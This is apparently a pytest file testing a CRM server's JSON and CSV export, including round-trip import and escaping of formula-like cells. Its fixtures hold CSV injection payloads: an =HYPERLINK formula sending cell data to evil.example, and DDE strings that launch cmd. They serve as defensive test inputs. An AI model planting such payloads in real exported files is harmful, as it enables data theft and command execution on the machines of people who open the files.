"""export: JSON is the stored records; CSV opens right in a spreadsheet and imports back."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime

import pytest

from server import db, schema
from server.csv_import import import_customers
from server.export import rows_for, safe_text, to_csv
from server.seed import seed

NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    path = tmp_path_factory.mktemp("export") / "server.db"
    engine = db.make_engine(f"sqlite:///{path}")
    schema.create_schema(engine)
    seed(engine, reps=4, customers=300, seed_value=2, now=NOW)
    yield engine, f"sqlite:///{path}"
    engine.dispose()


def _export(url: str, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "FIELDREP_DATABASE_URL": url, "PYTHONIOENCODING": "ascii",
           "LC_ALL": "C"}
    done = subprocess.run([sys.executable, "-m", "server.cli", "export", *args],
                          capture_output=True, env=env, timeout=120)
    assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr
    return done


def _table(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf"), "a byte-order mark so spreadsheets read UTF-8"
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("what", ["customers", "visits", "feedback"])
def test_json_export_is_every_stored_record_in_utf8_whatever_the_locale(seeded, what):
    engine, url = seeded
    exported = json.loads(_export(url, what, "--format", "json").stdout.decode("utf-8"))
    assert exported == rows_for(engine, what)
    assert exported, what


@pytest.mark.parametrize("what", ["visits", "feedback"])
def test_csv_export_has_one_row_per_record_with_the_same_cells(seeded, what):
    engine, url = seeded
    table = _table(_export(url, what).stdout)
    records = rows_for(engine, what)
    assert len(table) == len(records)
    for row, record in zip(table, records, strict=True):
        assert row["id"] == record["id"] and row["customer_id"] == record["customer_id"]
        assert row["at"] == record["at"]
        for key in ("outcome", "notes", "text"):
            if key in record:
                assert row[key] == record[key]
        if record.get("amount") is not None:
            assert float(row["amount"]) == record["amount"]


def test_customer_csv_leads_with_the_import_columns_and_flattens_the_contact(seeded):
    engine, url = seeded
    table = _table(_export(url, "customers").stdout)
    records = {r["id"]: r for r in rows_for(engine, "customers")}
    assert list(table[0])[:5] == ["id", "name", "industry", "customer_type", "province"]
    assert "search_keys" not in table[0]
    for row in table:
        record = records[row["id"]]
        assert row["name"] == record["name"] and row["tier"] == record["tier"]
        assert row["product_lines"].split(";") == record["product_lines"]
        assert row["contact_name"] == record["contacts"][0]["name"]
        assert row["contact_phone"] == record["contacts"][0]["phone"]
        assert row["owner"] == (record["owner_name"] or "")
        assert row["owner_id"] == (record["owner_id"] or "")


def test_an_exported_customer_file_imports_back_unchanged_and_edits_apply(seeded, tmp_path):
    engine, _ = seeded
    before = {r["id"]: r for r in rows_for(engine, "customers")}
    text = to_csv("customers", list(before.values()))
    assert import_customers(engine, text, skip_bad=False, now=NOW).counts() == (0, len(before), 0)
    after = {r["id"]: r for r in rows_for(engine, "customers")}
    volatile = ("version", "updated_at")
    for rid, record in before.items():
        assert ({k: v for k, v in after[rid].items() if k not in volatile}
                == {k: v for k, v in record.items() if k not in volatile}), record["name"]
        assert after[rid]["version"] == record["version"] + 1

    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    owned = next(r for r in rows if r["owner"])
    owned.update(tier="A" if owned["tier"] != "A" else "B", city="", lat="")
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerow(owned)
    assert import_customers(engine, out.getvalue(), skip_bad=False, now=NOW).counts() == (0, 1, 0)
    edited = next(r for r in rows_for(engine, "customers") if r["id"] == owned["id"])
    assert edited["tier"] == owned["tier"]
    assert edited["city"] == after[owned["id"]]["city"], "an emptied cell keeps the stored value"
    assert edited["protected_until"] == after[owned["id"]]["protected_until"], (
        "the same owner keeps their claim")


@pytest.mark.parametrize(("text", "shown"), [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("+86 138 0000 0000", "'+86 138 0000 0000"),
    ("-bad", "'-bad"),
    ("-3.5", "-3.5"),
    ("普通文本", "普通文本"),
])
def test_text_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(text, shown):
    assert safe_text(text) == shown


def test_a_formula_like_name_survives_export_and_import(tmp_path):
    engine = db.make_engine(f"sqlite:///{tmp_path / 'f.db'}")
    schema.create_schema(engine)
    header = "name,contact_name,contact_phone\r\n"
    assert import_customers(engine, header + "=1+1 Trading,Ann,+86 21 5555\r\n",
                            skip_bad=False, now=NOW).new == 1
    text = to_csv("customers", rows_for(engine, "customers"))
    assert "'=1+1 Trading" in text and "'+86 21 5555" in text
    import_customers(engine, text, skip_bad=False, now=NOW)
    (customer,) = rows_for(engine, "customers")
    assert customer["name"] == "=1+1 Trading"
    assert customer["contacts"][0]["phone"] == "+86 21 5555"


def test_exporting_from_a_missing_database_is_one_line(tmp_path):
    env = {**os.environ, "FIELDREP_DATABASE_URL": "postgresql+psycopg://x@127.0.0.1:1/none"}
    done = subprocess.run([sys.executable, "-m", "server.cli", "export", "visits"],
                          capture_output=True, text=True, env=env, timeout=60)
    assert done.returncode == 1 and done.stdout == ""
    assert len(done.stderr.strip().splitlines()) == 1 and "cannot use the database" in done.stderr
    bad = subprocess.run([sys.executable, "-m", "server.cli", "export", "orders"],
                         capture_output=True, text=True, env=env, timeout=60)
    assert bad.returncode == 2 and "invalid choice" in bad.stderr


FORMULAS = {
    "product_lines": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\");-2+3;@SUM(A1);ok",
    "contact_name": "=cmd|' /C calc'!A0",
    "contact_title": "+1+cmd|' /C calc'!A0",
    "contact_phone": "-2+3",
    "contact_email": "@a.example",
}


def _formula_customer(engine) -> dict:
    # the import refuses "@a.example" as an email now: it stands for a record stored before
    # that rule, written in afterwards as it was, which export must still make safe
    imported = {k: v for k, v in FORMULAS.items() if k != "contact_email"}
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["name", *imported])
    writer.writerow(["Formula Trading", *imported.values()])
    assert import_customers(engine, out.getvalue(), skip_bad=False, now=NOW).new == 1
    (customer,) = rows_for(engine, "customers")
    customer["contacts"][0]["email"] = FORMULAS["contact_email"]
    with db.writing(engine) as conn:
        db.put_record(conn, "customer", customer, db.record_audience(conn, "customer",
                                                                     customer["id"]))
    (customer,) = rows_for(engine, "customers")
    return customer


def test_no_customer_cell_starts_like_a_formula_joined_lists_and_contacts_included(engine):
    customer = _formula_customer(engine)
    assert customer["product_lines"][0].startswith("=HYPERLINK")
    assert customer["contacts"][0]["name"] == FORMULAS["contact_name"]
    text = to_csv("customers", rows_for(engine, "customers"))
    (row,) = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert row["product_lines"].split(";") == [
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'-2+3", "'@SUM(A1)", "ok"]
    assert row["contacts"] == ("'=cmd|' /C calc'!A0, '+1+cmd|' /C calc'!A0, '-2+3, "
                               "'@a.example")
    assert row["contact_name"] == "'" + FORMULAS["contact_name"]


def test_every_cell_of_every_export_is_checked_the_same_way(engine):
    customer = _formula_customer(engine)
    visit = {"id": "v1", "customer_id": customer["id"], "outcome": "=1+1", "notes": "@x",
             "tags": ["-x", "y"], "extra": {"k": "v"}, "amount": -3.5}
    (row,) = list(csv.DictReader(io.StringIO(to_csv("visits", [visit]).lstrip("\ufeff"),
                                             newline="")))
    assert row["outcome"] == "'=1+1" and row["notes"] == "'@x" and row["tags"] == "'-x;y"
    assert to_csv("visits", [{"tags": ["y", "=x"]}]).split("\r\n")[1] == "y;'=x", (
        "an item is escaped where a split into columns would start a cell")
    assert row["amount"] == "-3.5", "a plain number stays a number"


@pytest.mark.parametrize("text", ["-inf", "-nan", "-1_000", "+Infinity"])
def test_what_python_takes_as_a_number_but_a_spreadsheet_would_run_is_escaped(text):
    assert safe_text(text) == "'" + text


def test_an_exported_file_with_formula_cells_imports_back_unchanged(engine):
    before = _formula_customer(engine)
    text = to_csv("customers", rows_for(engine, "customers"))
    assert import_customers(engine, text, skip_bad=False, now=NOW).counts() == (0, 1, 0)
    (after,) = rows_for(engine, "customers")
    assert after["product_lines"] == before["product_lines"]
    assert after["contacts"] == before["contacts"]
    assert after["name"] == before["name"]
